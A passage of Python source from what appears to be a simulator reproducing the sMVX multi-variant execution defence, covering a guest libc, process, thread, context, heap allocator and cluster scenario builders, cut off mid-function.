    return _sys(ctx, "getsockopt", fd, level, optname, optval, optlen)


# ---------------------------------------------------------------------------
# epoll / ioctl
# ---------------------------------------------------------------------------

def libc_epoll_create1(ctx, flags):
    _user(ctx)
    return _sys(ctx, "epoll_create1", flags)


def libc_epoll_ctl(ctx, epfd, op, fd, event):
    _user(ctx)
    return _sys(ctx, "epoll_ctl", epfd, op, fd, event)


def libc_epoll_wait(ctx, epfd, events, maxevents, timeout):
    _user(ctx)
    return _sys(ctx, "epoll_wait", epfd, events, maxevents,
                to_signed(timeout))


def libc_epoll_pwait(ctx, epfd, events, maxevents, timeout, sigmask):
    _user(ctx)
    return _sys(ctx, "epoll_pwait", epfd, events, maxevents,
                to_signed(timeout), sigmask)


def libc_ioctl(ctx, fd, request, arg):
    _user(ctx)
    return _sys(ctx, "ioctl", fd, request, arg)


# ---------------------------------------------------------------------------
# time (vDSO-style: no kernel entry for time/localtime_r)
# ---------------------------------------------------------------------------

def libc_gettimeofday(ctx, tv, tz):
    _user(ctx)
    return _sys(ctx, "gettimeofday", tv)


def libc_time(ctx, tloc):
    _user(ctx)
    clock = ctx.process.kernel.clock
    seconds = int(clock.wall_ns // 1_000_000_000)
    if tloc:
        ctx.write_word(tloc, seconds)
    return seconds


def libc_localtime_r(ctx, timep, result):
    _user(ctx)
    ctx.charge(30, "libc")           # civil-time breakdown is real work
    clock = ctx.process.kernel.clock
    seconds = to_signed(ctx.read_word(timep)) if timep else None
    tm = clock.localtime(seconds)
    ctx.write(result, tm.pack())
    return result                    # returns its result argument (a pointer)


def libc_getpid(ctx):
    _user(ctx)
    return _sys(ctx, "getpid")


def libc_exit(ctx, code):
    _user(ctx)
    return _sys(ctx, "exit", code)


# ---------------------------------------------------------------------------
# memory management (pure user space)
# ---------------------------------------------------------------------------

def libc_malloc(ctx, size):
    _user(ctx)
    return ctx.process.heap_for(ctx.thread).malloc(size)


def libc_calloc(ctx, count, size):
    _user(ctx)
    ctx.charge(max(1, count * size // 64), "libc")
    return ctx.process.heap_for(ctx.thread).calloc(count, size)


def libc_realloc(ctx, addr, size):
    _user(ctx)
    return ctx.process.heap_for(ctx.thread).realloc(addr, size)


def libc_free(ctx, addr):
    _user(ctx)
    ctx.process.heap_for(ctx.thread).free(addr)
    return 0


# ---------------------------------------------------------------------------
# string/memory ops (pure user space, charged per byte)
# ---------------------------------------------------------------------------

def _charge_bytes(ctx, nbytes: int) -> None:
    ctx.charge(max(1, nbytes // 8), "libc")


def libc_memcpy(ctx, dst, src, count):
    _charge_bytes(ctx, count)
    ctx.write(dst, ctx.read(src, count))
    return dst


def libc_memmove(ctx, dst, src, count):
    _charge_bytes(ctx, count)
    data = ctx.read(src, count)      # full copy first: overlap-safe
    ctx.write(dst, data)
    return dst


def libc_memset(ctx, dst, byte, count):
    _charge_bytes(ctx, count)
    ctx.write(dst, bytes([byte & 0xFF]) * count)
    return dst


def libc_memcmp(ctx, left, right, count):
    _charge_bytes(ctx, count)
    a = ctx.read(left, count)
    b = ctx.read(right, count)
    if a == b:
        return 0
    return 1 if a > b else -1


def libc_strlen(ctx, addr):
    value = ctx.read_cstring(addr)
    _charge_bytes(ctx, len(value))
    return len(value)


def libc_strcmp(ctx, left, right):
    a = ctx.read_cstring(left)
    b = ctx.read_cstring(right)
    _charge_bytes(ctx, min(len(a), len(b)) + 1)
    if a == b:
        return 0
    return 1 if a > b else -1


def libc_strncmp(ctx, left, right, count):
    a = ctx.read_cstring(left)[:count]
    b = ctx.read_cstring(right)[:count]
    _charge_bytes(ctx, min(len(a), len(b)) + 1)
    if a == b:
        return 0
    return 1 if a > b else -1


def libc_strchr(ctx, addr, char):
    value = ctx.read_cstring(addr)
    _charge_bytes(ctx, len(value))
    index = value.find(bytes([char & 0xFF]))
    return addr + index if index >= 0 else 0


def libc_atoi(ctx, addr):
    text = ctx.read_cstring(addr)
    _charge_bytes(ctx, len(text))
    text = text.strip()
    sign = 1
    if text[:1] in (b"-", b"+"):
        sign = -1 if text[:1] == b"-" else 1
        text = text[1:]
    digits = 0
    for byte in text:
        if not (0x30 <= byte <= 0x39):
            break
        digits = digits * 10 + (byte - 0x30)
    return sign * digits


# ---------------------------------------------------------------------------
# registry / image construction
# ---------------------------------------------------------------------------

#: name -> (implementation, arity)
LIBC_FUNCTIONS: Dict[str, Tuple[Callable, int]] = {
    "open": (libc_open, 2),
    "close": (libc_close, 1),
    "read": (libc_read, 3),
    "write": (libc_write, 3),
    "writev": (libc_writev, 3),
    "stat": (libc_stat, 2),
    "fstat": (libc_fstat, 2),
    "lseek": (libc_lseek, 3),
    "mkdir": (libc_mkdir, 2),
    "unlink": (libc_unlink, 1),
    "sendfile": (libc_sendfile, 4),
    "listen_on": (libc_listen_on, 2),
    "accept4": (libc_accept4, 2),
    "recv": (libc_recv, 4),
    "send": (libc_send, 4),
    "shutdown": (libc_shutdown, 2),
    "setsockopt": (libc_setsockopt, 5),
    "getsockopt": (libc_getsockopt, 5),
    "epoll_create1": (libc_epoll_create1, 1),
    "epoll_ctl": (libc_epoll_ctl, 4),
    "epoll_wait": (libc_epoll_wait, 4),
    "epoll_pwait": (libc_epoll_pwait, 5),
    "ioctl": (libc_ioctl, 3),
    "gettimeofday": (libc_gettimeofday, 2),
    "time": (libc_time, 1),
    "localtime_r": (libc_localtime_r, 2),
    "getpid": (libc_getpid, 0),
    "exit": (libc_exit, 1),
    "malloc": (libc_malloc, 1),
    "calloc": (libc_calloc, 2),
    "realloc": (libc_realloc, 2),
    "free": (libc_free, 1),
    "memcpy": (libc_memcpy, 3),
    "memmove": (libc_memmove, 3),
    "memset": (libc_memset, 3),
    "memcmp": (libc_memcmp, 3),
    "strlen": (libc_strlen, 1),
    "strcmp": (libc_strcmp, 2),
    "strncmp": (libc_strncmp, 3),
    "strchr": (libc_strchr, 2),
    "atoi": (libc_atoi, 1),
}

LIBC_ARITIES: Dict[str, int] = {name: arity
                                for name, (_fn, arity)
                                in LIBC_FUNCTIONS.items()}


def build_libc_image() -> ProgramImage:
    """Build the libc shared-object image.

    Functions get modest padded sizes so the library occupies a realistic
    handful of text pages (shared between variants, like a real libc whose
    mapping both variants reuse).
    """
    builder = ImageBuilder("libc.so")
    for name, (fn, arity) in LIBC_FUNCTIONS.items():
        builder.add_hl_function(name, fn, arity, size=16 * INSTR_SIZE)
    builder.add_rodata("libc_version", b"repro-libc 1.0\x00")
    builder.add_bss("libc_tls_area", 4096)
    return builder.build()
