"""The guest C library.

High-level guest functions implementing the ~35 libc calls the paper's
prototype simulates (§4: "the sMVX monitor simulates 35 libc library
calls"), built into a shared-library image that the loader links every
application against.  ``repro.libc.categories`` encodes Table 1's
emulation requirements, which the sMVX lockstep synchronizer executes.
"""

from repro.libc.libc import (
    LIBC_ARITIES,
    LIBC_FUNCTIONS,
    build_libc_image,
)
from repro.libc.categories import (
    Category,
    EmulationSpec,
    EMULATION_SPECS,
    PAPER_TABLE1,
)

__all__ = [
    "LIBC_ARITIES",
    "LIBC_FUNCTIONS",
    "build_libc_image",
    "Category",
    "EmulationSpec",
    "EMULATION_SPECS",
    "PAPER_TABLE1",
]
