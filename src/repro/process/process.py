"""Guest processes and threads.

A :class:`GuestProcess` ties together one address space, a loader, a CPU,
a heap, and any number of threads.  It implements the two CPU escape
hatches (HL dispatch and raw syscalls) and the host<->guest call protocol.

Threads model ``clone()`` with a shared VM: each has its own stack region,
registers, PKRU, errno, and TLS — the properties sMVX duplicates when it
creates the follower variant (paper §3.4).
"""

from __future__ import annotations

from typing import Dict, List, Optional, Tuple, Union

from repro.kernel.kernel import Kernel
from repro.loader.image import ProgramImage
from repro.loader.loader import LoadedImage, Loader
from repro.machine.costs import CostModel, CycleCounter, DEFAULT_COSTS
from repro.machine.cpu import CPU, ExecState, HOST_RETURN_ADDRESS
from repro.machine.isa import INSTR_SIZE
from repro.machine.memory import AddressSpace, PAGE_SIZE, PROT_RW, WORD_SIZE
from repro.machine.registers import ARG_REGISTERS, RegisterFile
from repro.process.context import GuestContext
from repro.process.heap import Heap

_MASK64 = (1 << 64) - 1

DEFAULT_STACK_PAGES = 16
DEFAULT_HEAP_PAGES = 512

#: Stacks live well away from images so shift-and-clone can't collide.
STACK_AREA_TOP = 0x0000_7FFE_0000_0000


class GuestThread:
    """One thread: architectural state + stack + thread-locals."""

    def __init__(self, process: "GuestProcess", name: str,
                 stack_base: int, stack_size: int):
        self.process = process
        self.name = name
        #: per-process task id (main thread is 1); divergence reports and
        #: trace events carry it.
        process._next_tid += 1
        self.tid = process._next_tid
        self.state = ExecState(RegisterFile())
        self.state.thread = self          # back-pointer for CPU hooks
        self.errno = 0
        self.tls: Dict[str, int] = {}
        #: the address-space view this thread executes against.  Normally
        #: the process space; the sMVX follower gets a view that shares
        #: libc/monitor pages but lacks the leader's image and heap.
        self.space = process.space
        self.cpu = process.cpu
        #: where this thread's work is charged.  The sMVX follower gets a
        #: counter that is *not* attached to the wall clock: it executes
        #: concurrently on another core, so its compute burns CPU cycles
        #: without extending wall time (lockstep waits, charged by the
        #: monitor to the process counter, are the wall-time cost).
        self.counter = process.counter
        self.stack_base = stack_base
        self.stack_size = stack_size
        #: "main", "leader" or "follower" — set by the sMVX runtime.
        self.variant = "main"
        #: names of guest functions currently on this thread's call stack
        #: (HL functions only; maintained by the dispatcher).
        self.func_stack: List[str] = []
        self.reset_stack_pointer()

    @property
    def stack_top(self) -> int:
        return self.stack_base + self.stack_size

    def reset_stack_pointer(self) -> None:
        # leave one word of headroom so an aligned frame fits exactly
        self.state.regs.set("rsp", self.stack_top - WORD_SIZE * 2)


class GuestProcess:
    """A guest program instance on the simulated machine."""

    def __init__(self, kernel: Kernel, name: str = "guest",
                 costs: CostModel = DEFAULT_COSTS,
                 heap_pages: int = DEFAULT_HEAP_PAGES,
                 parent_pid: Optional[int] = None):
        self.kernel = kernel
        self.name = name
        self.costs = costs
        self.space = AddressSpace(name)
        self.counter = CycleCounter()
        kernel.attach_counter(self.counter)
        self.pid = kernel.register_process(self, name, parent_pid)
        self.loader = Loader(self.space)
        self.cpu = CPU(self.space, counter=self.counter, costs=costs,
                       syscall_handler=self._syscall_from_isa,
                       hl_dispatch=self._hl_dispatch)
        heap_base = self.space.mmap(None, heap_pages * PAGE_SIZE,
                                    prot=PROT_RW, tag="heap")
        self.heap = Heap(self.space, heap_base, heap_pages * PAGE_SIZE)
        #: per-thread heap override: the sMVX follower allocates from its
        #: own (shifted) heap copy after variant creation (paper §3.4).
        self.thread_heaps: Dict[GuestThread, Heap] = {}
        self.threads: List[GuestThread] = []
        self.main_image: Optional[LoadedImage] = None
        self._next_stack_top = STACK_AREA_TOP
        self._next_tid = 0
        self._sentinel_seq = 0
        self.active_thread: Optional[GuestThread] = None
        #: PKRU applied to new threads; the sMVX monitor sets this to its
        #: "closed" value so app code can never touch monitor pages.
        self.default_pkru = 0
        #: set by the sMVX runtime when a monitor is preloaded.
        self.smvx_monitor = None
        #: CPU burned by already-destroyed follower threads (kept so
        #: total_cpu_ns survives region teardown).
        self._retired_follower_ns = 0.0

        # -- libc-call statistics (Figures 7 and 8) --
        self.libc_call_counts: Dict[str, int] = {}
        self.libc_calls_total = 0
        #: per guest function: libc calls issued while it was anywhere on
        #: the call stack, i.e. calls inside its call-graph subtree.
        self.libc_calls_in_subtree: Dict[str, int] = {}
        #: optional interposer: fn(thread, libc_name) -> None
        self.libc_call_observers: list = []
        #: when a list, every HL function entry name is appended — the
        #: execution-trace log the auth-diff discovery diffs (§3.2).
        self.function_trace: Optional[List[str]] = None

    # -- image management -----------------------------------------------------------

    def load_image(self, image: ProgramImage, base: Optional[int] = None,
                   tag: Optional[str] = None, pkey: int = 0,
                   main: bool = False) -> LoadedImage:
        loaded = self.loader.load(image, base=base, tag=tag, pkey=pkey)
        if main or self.main_image is None:
            self.main_image = loaded
        return loaded

    def resolve(self, name: str) -> int:
        return self.loader.resolve(name)

    # -- threads ----------------------------------------------------------------------

    def create_thread(self, name: str,
                      stack_pages: int = DEFAULT_STACK_PAGES) -> GuestThread:
        size = stack_pages * PAGE_SIZE
        top = self._next_stack_top
        base = top - size
        # one unmapped guard page between stacks catches runaway growth
        self._next_stack_top = base - PAGE_SIZE
        self.space.mmap(base, size, prot=PROT_RW, tag=f"stack:{name}")
        thread = GuestThread(self, name, base, size)
        thread.state.pkru = self.default_pkru
        self.threads.append(thread)
        return thread

    def main_thread(self) -> GuestThread:
        if not self.threads:
            return self.create_thread("main")
        return self.threads[0]

    # -- accounting -------------------------------------------------------------------

    def charge(self, ns: float, category: str) -> None:
        self.counter.charge(ns, category)

    def heap_for(self, thread: GuestThread) -> Heap:
        return self.thread_heaps.get(thread, self.heap)

    @property
    def current_counter(self) -> CycleCounter:
        """The counter work should land on right now: the active thread's
        (the kernel charges syscall work here so a follower's local calls
        don't extend wall time)."""
        if self.active_thread is not None:
            return self.active_thread.counter
        return self.counter

    def total_cpu_ns(self) -> float:
        """Total CPU consumed across all cores: the process counter plus
        every thread-private counter (sMVX followers)."""
        total = self.counter.total_ns
        for thread in self.threads:
            if thread.counter is not self.counter:
                total += thread.counter.total_ns
        total += self._retired_follower_ns
        return total

    def note_libc_call(self, thread: GuestThread, name: str) -> None:
        self.libc_call_counts[name] = self.libc_call_counts.get(name, 0) + 1
        self.libc_calls_total += 1
        for func in set(thread.func_stack):
            self.libc_calls_in_subtree[func] = \
                self.libc_calls_in_subtree.get(func, 0) + 1
        for observer in self.libc_call_observers:
            observer(thread, name)

    def libc_syscall_ratio(self) -> float:
        syscalls = self.kernel.syscall_count(self.pid)
        return self.libc_calls_total / syscalls if syscalls else 0.0

    # -- host -> guest calls --------------------------------------------------------------

    def guest_call(self, thread: GuestThread, target: Union[int, str],
                   *args: int) -> int:
        """Call a guest function and return its ``rax`` (as unsigned).

        Implements the SysV convention: first six integer args in
        registers, the rest pushed right-to-left, ``rax`` = arg count (for
        variadic callees), return address pushed by CALL semantics.
        """
        if isinstance(target, str):
            address = self.resolve(target)
        else:
            address = target
        state = thread.state
        regs = state.regs
        saved = regs.snapshot()
        previous_active = self.active_thread
        self.active_thread = thread

        int_args = [int(a) & _MASK64 for a in args]
        for name, value in zip(ARG_REGISTERS, int_args[:6]):
            regs.set(name, value)
        for value in reversed(int_args[6:]):
            self._push(state, value)
        regs.set("rax", len(int_args))

        self._sentinel_seq += 1
        sentinel = HOST_RETURN_ADDRESS + INSTR_SIZE * (
            self._sentinel_seq & 0xFFFFFF)
        self._push(state, sentinel)
        regs.rip = address
        try:
            thread.cpu.run(state, until_rip=sentinel)
            result = regs.get("rax")
        finally:
            regs.load_snapshot(saved)
            self.active_thread = previous_active
        return result

    def _push(self, state: ExecState, value: int) -> None:
        rsp = (state.regs.get("rsp") - WORD_SIZE) & _MASK64
        state.regs.set("rsp", rsp)
        state.thread.space.write_word(rsp, value & _MASK64, pkru=state.pkru)

    def call_function(self, name: str, *args: int,
                      thread: Optional[GuestThread] = None) -> int:
        """Convenience entry point for tests/examples: call by name on the
        main thread."""
        return self.guest_call(thread or self.main_thread(), name, *args)

    # -- CPU escape hatches ------------------------------------------------------------------

    def _hl_dispatch(self, state: ExecState, global_index: int) -> None:
        hl, home = self.loader.hl_function(global_index)
        rip_next = state.regs.rip             # already past the HLCALL
        entry_addr = rip_next - INSTR_SIZE
        loaded = self.loader.image_at(entry_addr) or home
        thread: GuestThread = state.thread
        regs = state.regs
        entry_rsp = regs.get("rsp")

        args = []
        for index in range(hl.arity):
            if index < len(ARG_REGISTERS):
                args.append(regs.get(ARG_REGISTERS[index]))
            else:
                offset = WORD_SIZE * (index - len(ARG_REGISTERS) + 1)
                args.append(thread.space.read_word(entry_rsp + offset,
                                                   pkru=state.pkru))

        ctx = GuestContext(self, thread, loaded, hl.name)
        if self.function_trace is not None:
            # (stack depth, name): depth lets the auth-diff analysis find
            # the frame *enclosing* the first divergent call
            self.function_trace.append((len(thread.func_stack), hl.name))
        thread.func_stack.append(hl.name)
        previous_active = self.active_thread
        self.active_thread = thread
        try:
            result = hl.fn(ctx, *args)
        finally:
            thread.func_stack.pop()
            self.active_thread = previous_active
            # discard locals; the (possibly corrupted) return-address slot
            # is back on top for the RET that follows the HLCALL.
            regs.set("rsp", entry_rsp)
        regs.set("rax", int(result or 0) & _MASK64)

    def _syscall_from_isa(self, state: ExecState) -> None:
        regs = state.regs
        number = regs.get("rax")
        args = [regs.get(r) for r in ARG_REGISTERS]
        result = self.kernel.syscall_by_number(self, number, *args)
        regs.set("rax", int(result) & _MASK64)

    # -- introspection ---------------------------------------------------------------------------

    def function_at(self, addr: int):
        return self.loader.function_at(addr)

    def resident_kb(self) -> float:
        """pmap-style RSS in KiB."""
        return self.space.resident_bytes() / 1024.0
