"""Guest execution context for high-level (HL) functions.

An HL function receives a :class:`GuestContext` as its first argument and
uses it for *everything* that touches guest state: memory accesses (which
go through the MMU with the calling thread's PKRU — MPK applies), stack
allocation (on the real guest stack, below the real return address), calls
to other guest functions (through the CPU, so PLT entries, trampolines and
ROP-corrupted return paths all behave), and libc calls (through the
current image's ``.plt``).

Compute cost is charged explicitly with :meth:`charge`; memory operations
charge automatically.
"""

from __future__ import annotations

import struct
from typing import TYPE_CHECKING, Optional, Sequence, Union

from repro.errors import MachineFault
from repro.machine.memory import WORD_SIZE

if TYPE_CHECKING:  # pragma: no cover
    from repro.loader.loader import LoadedImage
    from repro.process.process import GuestProcess, GuestThread

_MASK64 = (1 << 64) - 1


def to_signed(value: int) -> int:
    """Interpret a 64-bit guest value as a signed integer."""
    value &= _MASK64
    return value - (1 << 64) if value >> 63 else value


def to_unsigned(value: int) -> int:
    return value & _MASK64


class GuestContext:
    """The face of the simulated machine presented to HL guest code."""

    __slots__ = ("process", "thread", "loaded", "function_name")

    def __init__(self, process: "GuestProcess", thread: "GuestThread",
                 loaded: "LoadedImage", function_name: str = "?"):
        self.process = process
        self.thread = thread
        self.loaded = loaded
        self.function_name = function_name

    # -- shorthand -------------------------------------------------------------

    @property
    def space(self):
        # the executing thread's view: the sMVX follower sees its own
        # address space (leader image/heap unmapped there).
        return self.thread.space

    @property
    def regs(self):
        return self.thread.state.regs

    @property
    def pkru(self) -> int:
        return self.thread.state.pkru

    @property
    def errno(self) -> int:
        return self.thread.errno

    @errno.setter
    def errno(self, value: int) -> None:
        self.thread.errno = value

    # -- cost accounting ----------------------------------------------------------

    def charge(self, units: float, category: str = "compute") -> None:
        """Charge abstract compute work (1 unit == one simple operation)."""
        self.thread.counter.charge(
            units * self.process.costs.compute_unit_ns, category)

    def _charge_mem(self, nbytes: int) -> None:
        accesses = max(1, (nbytes + 63) // 64)
        self.thread.counter.charge(
            accesses * self.process.costs.memory_access_ns, "memory")

    # -- memory (guest-privilege accesses: MPK applies) ------------------------------

    def read(self, addr: int, size: int) -> bytes:
        self._charge_mem(size)
        return self.space.read(addr, size, pkru=self.pkru)

    def write(self, addr: int, data: bytes) -> None:
        self._charge_mem(len(data))
        self.space.write(addr, data, pkru=self.pkru)

    def read_word(self, addr: int) -> int:
        self._charge_mem(8)
        return self.space.read_word(addr, pkru=self.pkru)

    def write_word(self, addr: int, value: int) -> None:
        self._charge_mem(8)
        self.space.write_word(addr, value & _MASK64, pkru=self.pkru)

    def read_byte(self, addr: int) -> int:
        self._charge_mem(1)
        return self.space.read(addr, 1, pkru=self.pkru)[0]

    def write_byte(self, addr: int, value: int) -> None:
        self._charge_mem(1)
        self.space.write(addr, bytes([value & 0xFF]), pkru=self.pkru)

    def read_cstring(self, addr: int, limit: int = 1 << 16) -> bytes:
        data = self.space.read_cstring(addr, pkru=self.pkru, limit=limit)
        self._charge_mem(len(data) + 1)
        return data

    def write_cstring(self, addr: int, data: bytes) -> None:
        self.write(addr, data + b"\x00")

    def read_words(self, addr: int, count: int) -> list:
        raw = self.read(addr, count * WORD_SIZE)
        return list(struct.unpack(f"<{count}Q", raw))

    def write_words(self, addr: int, values: Sequence[int]) -> None:
        self.write(addr, struct.pack(f"<{len(values)}Q",
                                     *[v & _MASK64 for v in values]))

    # -- stack ------------------------------------------------------------------------

    def stack_alloc(self, nbytes: int) -> int:
        """Reserve ``nbytes`` on the guest stack; returns the lowest address.

        The allocation sits *below* the function's return address, exactly
        like a C local array — so writing past its end clobbers saved
        state, which is the behaviour the CVE-2013-2028 reproduction
        depends on.
        """
        nbytes = (nbytes + 15) & ~15
        rsp = (self.regs.get("rsp") - nbytes) & _MASK64
        self.regs.set("rsp", rsp)
        return rsp

    def push(self, value: int) -> None:
        rsp = (self.regs.get("rsp") - WORD_SIZE) & _MASK64
        self.regs.set("rsp", rsp)
        self.space.write_word(rsp, value & _MASK64, pkru=self.pkru)

    # -- control transfer ---------------------------------------------------------------

    def call(self, target: Union[int, str], *args: int) -> int:
        """Call another guest function through the CPU.

        String targets resolve against the *current image first* — like a
        direct (RIP-relative) call in compiled code — so the sMVX
        follower's intra-image calls stay inside its own copy.
        """
        if isinstance(target, str):
            target = self.symbol(target)
        return self.process.guest_call(self.thread, target, *args)

    def libc(self, name: str, *args: int) -> int:
        """Issue a libc call through this image's PLT entry.

        This is the app-level libc call site the paper's Figures 7 and 8
        count; interception (vanilla GOT -> libc, or sMVX GOT -> monitor
        trampoline) happens underneath, invisibly to the caller.
        """
        self.process.note_libc_call(self.thread, name)
        plt = self.loaded.symbol_address(f"{name}@plt")
        return self.process.guest_call(self.thread, plt, *args)

    # -- symbols ----------------------------------------------------------------------------

    def symbol(self, name: str) -> int:
        """Resolve a symbol, preferring the current image (for the shifted
        follower copy this returns the *follower's* address)."""
        if self.loaded.has_symbol(name):
            return self.loaded.symbol_address(name)
        return self.process.loader.resolve(name)

    def fault(self, message: str) -> None:
        """Raise a guest-level fault (models an abort/assertion)."""
        raise MachineFault(message)

    # -- convenience for libc-style buffers ---------------------------------------------------

    def scratch(self, nbytes: int) -> int:
        """Stack-allocate a scratch buffer (alias with intent)."""
        return self.stack_alloc(nbytes)
