"""Guest processes: address space + loader + CPU + heap + threads."""

from repro.process.context import GuestContext, to_signed, to_unsigned
from repro.process.heap import Heap, HeapCorruption, OutOfGuestMemory
from repro.process.process import GuestProcess, GuestThread

__all__ = [
    "GuestContext",
    "GuestProcess",
    "GuestThread",
    "Heap",
    "HeapCorruption",
    "OutOfGuestMemory",
    "to_signed",
    "to_unsigned",
]
