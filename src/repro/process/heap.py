"""Guest heap allocator.

A segregated-free-list ``malloc`` operating entirely inside a guest memory
region.  Two properties matter for the reproduction:

* ``malloc``/``free`` are **pure user-space** operations (they never enter
  the kernel once the arena is mapped) — this is footnote 2 of the paper,
  and it is what makes the libc:syscall ratio of Figure 7 exceed 1.
* every allocation has a header and an 8-byte-aligned payload, so the
  heap is exactly the kind of memory the sMVX pointer scanner walks
  slot-by-slot (§3.4).

Layout: ``[size u64][payload ...]``; payloads rounded to 16 bytes.
"""

from __future__ import annotations

from typing import Dict, List

from repro.errors import ReproError
from repro.machine.memory import AddressSpace

HEADER_SIZE = 8
MIN_CHUNK = 16


class OutOfGuestMemory(ReproError):
    pass


class HeapCorruption(ReproError):
    pass


class Heap:
    """One arena inside a guest address space."""

    def __init__(self, space: AddressSpace, base: int, size: int):
        self.space = space
        self.base = base
        self.size = size
        self._brk = base                       # bump pointer
        self._free: Dict[int, List[int]] = {}  # chunk size -> payload addrs
        self._allocated: Dict[int, int] = {}   # payload addr -> chunk size
        self.allocated_bytes = 0
        self.high_water = 0
        self.malloc_calls = 0
        self.free_calls = 0

    # -- allocation -----------------------------------------------------------

    @staticmethod
    def _round(nbytes: int) -> int:
        nbytes = max(nbytes, 1)
        return (nbytes + MIN_CHUNK - 1) & ~(MIN_CHUNK - 1)

    def malloc(self, nbytes: int) -> int:
        """Allocate; returns payload address (never 0 — raises instead)."""
        self.malloc_calls += 1
        chunk = self._round(nbytes)
        bucket = self._free.get(chunk)
        if bucket:
            addr = bucket.pop()
        else:
            addr = self._brk + HEADER_SIZE
            new_brk = addr + chunk
            if new_brk > self.base + self.size:
                raise OutOfGuestMemory(
                    f"heap exhausted: need {chunk} bytes, "
                    f"{self.base + self.size - self._brk} left")
            self._brk = new_brk
            self.space.write_word(addr - HEADER_SIZE, chunk,
                                  privileged=True)
        self._allocated[addr] = chunk
        self.allocated_bytes += chunk
        self.high_water = max(self.high_water, self._brk - self.base)
        return addr

    def calloc(self, count: int, size: int) -> int:
        total = count * size
        addr = self.malloc(total)
        self.space.write(addr, b"\x00" * self._round(total),
                         privileged=True)
        return addr

    def free(self, addr: int) -> None:
        self.free_calls += 1
        if addr == 0:
            return
        chunk = self._allocated.pop(addr, None)
        if chunk is None:
            raise HeapCorruption(f"free() of non-allocated {addr:#x}")
        header = self.space.read_word(addr - HEADER_SIZE, privileged=True)
        if header != chunk:
            raise HeapCorruption(
                f"heap header smashed at {addr - HEADER_SIZE:#x}: "
                f"{header} != {chunk}")
        self._free.setdefault(chunk, []).append(addr)
        self.allocated_bytes -= chunk

    def realloc(self, addr: int, nbytes: int) -> int:
        if addr == 0:
            return self.malloc(nbytes)
        old_chunk = self._allocated.get(addr)
        if old_chunk is None:
            raise HeapCorruption(f"realloc() of non-allocated {addr:#x}")
        if self._round(nbytes) <= old_chunk:
            return addr
        new_addr = self.malloc(nbytes)
        data = self.space.read(addr, old_chunk, privileged=True)
        self.space.write(new_addr, data, privileged=True)
        self.free(addr)
        return new_addr

    # -- introspection (used by the pointer scanner and pmap) -------------------

    def used_range(self):
        """``(base, brk)`` — the slice the sMVX heap scan must walk."""
        return self.base, self._brk

    def owns(self, addr: int) -> bool:
        return self.base <= addr < self.base + self.size

    def live_allocations(self) -> Dict[int, int]:
        return dict(self._allocated)

    def clone_bookkeeping(self, shift: int) -> "dict":
        """Allocator metadata for a shifted copy of this heap region."""
        return {
            "brk": self._brk + shift,
            "free": {size: [a + shift for a in addrs]
                     for size, addrs in self._free.items()},
            "allocated": {a + shift: size
                          for a, size in self._allocated.items()},
        }

    def adopt_bookkeeping(self, book: dict) -> None:
        self._brk = book["brk"]
        self._free = {size: list(addrs)
                      for size, addrs in book["free"].items()}
        self._allocated = dict(book["allocated"])
        self.allocated_bytes = sum(self._allocated.values())
