"""Canned distributed-sMVX scenarios: builders, sessions, and the
CVE / battery / replay drivers used by tests, benchmarks, and the CLI.

Every scenario is a pure function of its seed: building the same
scenario twice and driving it with the same stimulus reproduces every
host's trace footer and the merged event order bit-for-bit.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional, Sequence

from repro.cluster.host import Cluster
from repro.cluster.remote import DistributedSmvx
from repro.kernel.faults import FaultSchedule
from repro.trace.merge import merge_digest, merge_traces
from repro.trace.record import Recorder, Trace

MINX_PROTECT = "minx_http_process_request_line"
LITTLED_PROTECT = "server_main_loop"


@dataclass
class ClusterRun:
    """A wired-up distributed deployment, ready to drive."""

    cluster: Cluster
    leader: object
    mirror: object
    dsmvx: DistributedSmvx
    recorders: List[Recorder] = field(default_factory=list)

    def finish(self) -> List[Trace]:
        """Drain in-flight frames and close every host's recorder."""
        self.dsmvx.settle()
        return [recorder.finish() for recorder in self.recorders]


def build_minx_cluster(seed: str = "smvx-cluster",
                       latency_ns: float = 100_000,
                       protect: str = MINX_PROTECT,
                       sensitive: Optional[Sequence[str]] = None,
                       record: bool = False, capacity: int = 4096,
                       fault_schedule: Optional[FaultSchedule] = None,
                       start: bool = True) -> ClusterRun:
    """Leader minx on host 0, mirror variant + monitor on host 1."""
    from repro.apps.minx import MinxServer

    cluster = Cluster(seed=seed, hosts=2, latency_ns=latency_ns)
    leader = MinxServer(cluster.host(0).kernel, protect=protect,
                        smvx=False)
    mirror = MinxServer(cluster.host(1).kernel, protect=protect,
                        smvx=True)
    dsmvx = DistributedSmvx(cluster, leader, mirror, sensitive=sensitive)
    run = ClusterRun(cluster, leader, mirror, dsmvx)
    if record:
        run.recorders = _attach_recorders(
            cluster, (leader, mirror), capacity,
            {"app": "minx-cluster", "seed": seed,
             "latency_ns": latency_ns, "protect": protect,
             "fault_schedule": (fault_schedule.as_dict()
                                if fault_schedule is not None
                                and hasattr(fault_schedule, "as_dict")
                                else None)})
    if fault_schedule is not None:
        cluster.install_link_faults(fault_schedule)
    if start:
        leader.start()
    return run


def build_littled_cluster(seed: str = "smvx-cluster",
                          latency_ns: float = 100_000,
                          workers: int = 2,
                          protect: str = LITTLED_PROTECT,
                          sensitive: Optional[Sequence[str]] = None,
                          record: bool = False, capacity: int = 4096,
                          fault_schedule: Optional[FaultSchedule] = None,
                          start: bool = True) -> ClusterRun:
    """Pre-forked littled on host 0 (scheduled serving), one mirror
    worker per leader worker on host 1, one wire channel per pair."""
    from repro.apps.littled import LittledServer

    cluster = Cluster(seed=seed, hosts=2, latency_ns=latency_ns)
    leader = LittledServer(cluster.host(0).kernel, protect=protect,
                           smvx=False, workers=workers)
    mirror = LittledServer(cluster.host(1).kernel, protect=protect,
                           smvx=True, workers=workers)
    dsmvx = DistributedSmvx(cluster, leader, mirror, sensitive=sensitive)
    run = ClusterRun(cluster, leader, mirror, dsmvx)
    if record:
        run.recorders = _attach_recorders(
            cluster, (leader, mirror), capacity,
            {"app": "littled-cluster", "seed": seed,
             "latency_ns": latency_ns, "protect": protect,
             "workers": workers})
    if fault_schedule is not None:
        cluster.install_link_faults(fault_schedule)
    if start:
        leader.start()
    return run


def _attach_recorders(cluster: Cluster, servers, capacity: int,
                      scenario: Dict) -> List[Recorder]:
    recorders = []
    for host_id, server in enumerate(servers):
        recorder = Recorder(cluster.host(host_id).kernel,
                            scenario=dict(scenario, host=host_id),
                            capacity=capacity)
        recorder.attach_server(server)
        recorders.append(recorder)
    return recorders


# -- drivers -------------------------------------------------------------------


def run_distributed_cve(seed: str = "smvx-cluster",
                        latency_ns: float = 100_000,
